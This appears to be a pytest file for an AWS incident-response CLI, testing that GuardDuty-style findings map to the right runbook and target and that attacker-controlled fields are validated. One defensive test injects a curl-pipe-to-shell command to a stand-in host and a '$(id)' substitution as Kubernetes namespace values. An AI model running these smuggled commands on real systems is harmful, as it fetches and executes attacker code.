"""Triage of one sample finding per family picks the runbook and the right target."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from ircli.core.errors import InvalidInput, UserError
from ircli.core.session import AwsSession, AwsSettings
from ircli.ops.triage import finding_target, triage
from ircli.runbook.library import all_runbooks
from ircli.runbook.loader import load_runbook
from ircli.triage.finding import parse_finding
from ircli.triage.match import match_runbook
from tests.families.conftest import FINDINGS, sample
from tests.helpers import ircli

EXPECTED = {
    "ec2-impact-dns": ("ec2-compromise", "i-99999999999999999"),
    "ec2-dot": ("ec2-compromise", "i-99999999999999999"),
    "eks-runtime-node": ("ec2-compromise", "i-99999999999999999"),  # a container escape
    "eks-runtime-pod": ("kubernetes-workload", "prod-cluster/default/web-7d4b9c"),
    "eks-audit-exec": ("kubernetes-workload", "prod-cluster/kube-system/aws-node-x7k2p"),
    "assumed-role": ("assumed-role-compromise", "app-deploy"),
}


@pytest.mark.parametrize(("name", "expected"), EXPECTED.items())
def test_each_family_sample_picks_its_runbook_and_target(name: str,
                                                         expected: tuple[str, str]) -> None:
    finding = parse_finding(sample(name))
    match = match_runbook(finding, all_runbooks())
    assert match is not None
    assert (match.runbook.name, finding_target(finding, match.runbook)) == expected


def test_triage_reports_the_match_against_the_emulator(clients) -> None:
    result = triage(AwsSession(AwsSettings()), parse_finding(sample("eks-runtime-pod")),
                    all_runbooks())
    assert result.match is not None and result.match.runbook.name == "kubernetes-workload"
    assert "ec2-compromise" not in result.match.also  # never the instance runbook, silently


def test_a_pod_only_finding_never_matches_an_instance_runbook(tmp_path) -> None:
    """Even a user runbook naming the exact type on an instance loses to the workload one:
    the finding names a pod, not a compromised node."""
    (tmp_path / "pods-as-instances.yaml").write_text(
        "name: pods-as-instances\ndescription: wrong\ntarget: instance\n"
        'finding_types:\n  - "Execution:Runtime/ReverseShell"\nsteps:\n  - tag\n')
    mine = load_runbook(tmp_path / "pods-as-instances.yaml", "user")
    assert mine.valid, mine.errors
    match = match_runbook(parse_finding(sample("eks-runtime-pod")), [*all_runbooks(), mine])
    assert match is not None and match.runbook.name == "kubernetes-workload"
    assert "pods-as-instances" not in match.also


def test_a_privileged_pod_contains_the_node() -> None:
    event = sample("eks-runtime-pod")
    workload = event["detail"]["resource"]["kubernetesDetails"]["kubernetesWorkloadDetails"]
    workload["containers"][0]["securityContext"]["privileged"] = True
    match = match_runbook(parse_finding(event), all_runbooks())
    assert match is not None and match.runbook.name == "ec2-compromise"


def test_an_iam_user_key_still_gets_the_key_runbook() -> None:
    event = copy.deepcopy(sample("assumed-role"))
    event["detail"]["resource"]["accessKeyDetails"].update(
        userType="IAMUser", accessKeyId="AKIAIOSFODNN7EXAMPLE", userName="alice")
    match = match_runbook(parse_finding(event), all_runbooks())
    assert match is not None and match.runbook.name == "iam-key-compromise"


def test_a_federated_user_is_told_where_its_session_comes_from() -> None:
    finding = parse_finding(sample("federated-user"))
    match = match_runbook(finding, all_runbooks())
    assert match is not None and match.runbook.name == "assumed-role-compromise"
    with pytest.raises(UserError, match="GetFederationToken") as err:
        finding_target(finding, match.runbook)
    assert "disable-keys --user" in str(err.value.remediation)


@pytest.mark.parametrize("namespace", ["x; curl http://203.0.113.9/s | sh", "$(id)", "A"])
def test_attacker_written_pod_names_never_reach_the_commands(namespace: str) -> None:
    """The namespace comes from the finding and would be pasted into kubectl commands."""
    event = sample("eks-runtime-pod")
    event["detail"]["resource"]["kubernetesDetails"]["kubernetesWorkloadDetails"][
        "namespace"] = namespace
    finding = parse_finding(event)
    match = match_runbook(finding, all_runbooks())
    assert match is not None
    with pytest.raises(InvalidInput, match="Kubernetes names"):
        finding_target(finding, match.runbook)


def test_triage_cli_plans_the_role_runbook(capsys, clients, deploy_role: str,
                                           aws_env: Any) -> None:
    result = ircli(capsys, "triage", str(FINDINGS / "assumed-role.json"))
    assert result.code == 0, result.err
    data = result.data
    assert (data["runbook"], data["status"], data["target"]) == (
        "assumed-role-compromise", "planned", "role/app-deploy")
    assert not (aws_env / "cases").exists()  # a plan writes nothing


def test_no_runbook_reason_is_in_the_triage_document(clients) -> None:
    event = sample("ec2-dot")
    event["detail"]["type"] = "Recon:EC2/PortProbeUnprotectedPort"
    result = triage(AwsSession(AwsSettings()), parse_finding(event), all_runbooks())
    assert result.match is None
    assert result.to_dict()["no_runbook_reason"].startswith("an open port probed")
